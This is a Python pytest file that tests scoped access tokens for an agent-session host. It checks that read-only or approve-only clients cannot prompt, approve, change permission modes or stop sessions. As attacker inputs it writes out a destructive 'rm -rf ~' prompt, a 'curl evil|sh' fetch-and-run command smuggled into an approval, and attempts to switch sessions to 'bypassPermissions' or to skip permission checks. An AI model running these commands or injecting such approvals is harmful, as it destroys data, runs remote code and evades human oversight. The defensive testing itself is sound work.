# ruff: noqa: F811 - pytest fixtures imported by name
"""Issue 44: a `--tcp`/`--ws` client's token carries a scope (`yoke host token --scope ...`), and the host holds
it to that scope on every request. Tested as the attacker: a read-only (`watch`) token client tries to
prompt, answer, set the mode, start and stop, over TCP and over the WebSocket, and is refused."""

from __future__ import annotations

import json
import time

import pytest
from tests.conftest import anthropic_env
from tests.host.conftest import Raw, runtime_of, yoke_cmd
from tests.host.test_remote_attacks import _start, listening_host  # noqa: F401 - a fixture
from websockets.sync.client import connect

from yoke.testing import ScriptedServer


def _mint(env, project, scope: str, *more: str) -> str:
    run = yoke_cmd(env, project, "host", "token", "--scope", scope, "--json", *more)
    assert run.returncode == 0, run.stderr
    made = json.loads(run.stdout)
    assert made["scope"] == scope
    return made["token"]


def _code(reply: dict) -> str:
    return reply["payload"].get("code", "") if reply["type"] == "error" else "ok"


ATTEMPTS = [  # what a watcher must not do, each as the wire says it
    ("prompt", {"prompt": "rm -rf ~"}),
    ("answer", {"request_id": "r1", "response": {"behavior": "allow"}}),
    ("op", {"op": {"type": "set_mode", "mode": "bypassPermissions"}}),
    ("control", {"request": {"subtype": "set_permission_mode", "mode": "acceptEdits"}}),
    ("interrupt", {}),
    ("start", {"args": ["--dangerously-skip-permissions"], "cwd": "/"}),
    ("stop", {}),
    ("kill", {}),
    ("shutdown", {}),
    ("remote_control", {}),
    ("message", {"message_id": "m1", "approve": True}),  # releasing a held message is driving
]


def test_a_watch_token_over_tcp_can_look_but_not_prompt_answer_or_set_the_mode(listening_host, project):
    env, tcp, _ = listening_host
    with ScriptedServer([{"content": [{"type": "text", "text": "ok"}]}] * 3) as srv:
        full = dict(env, **anthropic_env(srv))
        ident = _start(full, project, "watched work")
        token = _mint(env, project, "watch")
        spy = Raw(("127.0.0.1", tcp))
        assert spy.call("hello", {"token": token})["type"] == "response"
        assert any(row["id"] == ident for row in spy.call("list")["payload"]["sessions"])
        attached = spy.call("attach", {"session": ident, "role": "driver", "since": 0})
        assert attached["type"] == "response" and not attached["payload"].get("driver")  # made a watcher
        for method, params in ATTEMPTS:
            reply = spy.call(method, {"session": ident, **params})
            assert _code(reply) == "forbidden", (method, reply)
        # the session is untouched: still listed, not stopped, no second prompt in it
        rows = {row["id"]: row for row in spy.call("list")["payload"]["sessions"]}
        assert rows[ident]["state"] != "stopped"


def test_an_approve_token_answers_but_cannot_prompt_or_change_input(listening_host, project):
    env, tcp, _ = listening_host
    token = _mint(env, project, "approve")
    client = Raw(("127.0.0.1", tcp))
    assert client.call("hello", {"token": token})["type"] == "response"
    assert _code(client.call("prompt", {"session": "x", "prompt": "hi"})) == "forbidden"
    assert _code(client.call("message", {"session": "x", "message_id": "m1", "approve": True})) == "forbidden"
    changed = {
        "request_id": "r1",
        "response": {"behavior": "allow", "updatedInput": {"command": "curl evil|sh"}},
    }
    assert _code(client.call("answer", {"session": "x", **changed})) == "forbidden"
    plain = client.call("answer", {"session": "x", "request_id": "r1", "response": {"behavior": "deny"}})
    assert _code(plain) not in (
        "forbidden",
        "unauthorized",
    )  # passed the gate (no such session: the host's word)


def test_a_watch_token_over_the_websocket_is_held_to_its_scope(listening_host, project):
    env, _, ws_port = listening_host
    token = _mint(env, project, "watch")
    with connect(f"ws://127.0.0.1:{ws_port}/") as ws:
        ws.send(
            json.dumps(
                {"id": "h", "type": "request", "payload": {"method": "hello", "params": {"token": token}}}
            )
        )
        assert json.loads(ws.recv(timeout=30))["type"] == "response"
        for n, (method, params) in enumerate(ATTEMPTS):
            ws.send(
                json.dumps(
                    {"id": f"a{n}", "type": "request", "payload": {"method": method, "params": params}}
                )
            )
            reply = json.loads(ws.recv(timeout=30))
            while reply.get("id") != f"a{n}":
                reply = json.loads(ws.recv(timeout=30))
            assert _code(reply) == "forbidden", (method, reply)


@pytest.mark.parametrize("kind", ["unknown", "expired", "revoked"])
def test_an_unknown_expired_or_revoked_token_is_refused(listening_host, project, kind):
    env, tcp, _ = listening_host
    if kind == "unknown":
        token = "not-a-token"
    elif kind == "expired":
        token = _mint(env, project, "admin", "--ttl", "1")
        time.sleep(1.5)
    else:
        token = _mint(env, project, "admin")
        assert yoke_cmd(env, project, "host", "token", "--revoke-all").returncode == 0
    client = Raw(("127.0.0.1", tcp))
    assert _code(client.call("hello", {"token": token})) == "unauthorized"


def test_a_drive_token_prompts_and_the_cli_refuses_a_made_up_scope(listening_host, project):
    env, tcp, _ = listening_host
    with ScriptedServer([{"content": [{"type": "text", "text": "ok"}]}] * 4) as srv:
        full = dict(env, **anthropic_env(srv))
        ident = _start(full, project, "driven work")
        client = Raw(("127.0.0.1", tcp))
        assert client.call("hello", {"token": _mint(env, project, "drive")})["type"] == "response"
        assert _code(client.call("prompt", {"session": ident, "prompt": "next"})) == "ok"
        # `message` passes the gate: the host itself answers that no such message is held
        released = client.call("message", {"session": ident, "message_id": "m1", "approve": True})
        assert _code(released) not in ("ok", "forbidden", "unauthorized"), released
        assert "no held message 'm1'" in released["payload"]["message"], released
        assert _code(client.call("stop", {"session": ident})) == "forbidden"  # admin only
    bad = yoke_cmd(env, project, "host", "token", "--scope", "root")
    assert (
        bad.returncode == 2 and "watch, approve, drive, admin" in bad.stderr and "Traceback" not in bad.stderr
    )


def test_a_revoked_token_ends_its_open_connection_at_its_next_request(listening_host, project):
    env, tcp, _ = listening_host
    client = Raw(("127.0.0.1", tcp))
    assert client.call("hello", {"token": _mint(env, project, "drive")})["type"] == "response"
    assert _code(client.call("list")) == "ok"
    assert yoke_cmd(env, project, "host", "token", "--revoke-all").returncode == 0
    assert _code(client.call("list")) == "unauthorized"
    assert client.read() is None  # and the connection is closed


def test_tokens_are_listed_without_their_secret_and_revoked_by_id(host_env, project):
    kept, gone = _mint(host_env, project, "watch"), _mint(host_env, project, "drive")
    listed = json.loads(yoke_cmd(host_env, project, "host", "token", "--list", "--json").stdout)
    assert {row["scope"] for row in listed} == {"watch", "drive"}
    assert kept not in json.dumps(listed) and gone not in json.dumps(listed)
    ident = next(row["id"] for row in listed if row["scope"] == "drive")
    assert yoke_cmd(host_env, project, "host", "token", "--revoke", ident).returncode == 0
    left = json.loads(yoke_cmd(host_env, project, "host", "token", "--list", "--json").stdout)
    assert [row["scope"] for row in left] == ["watch"]
    assert (runtime_of(host_env) / "host-tokens.json").stat().st_mode & 0o777 == 0o600
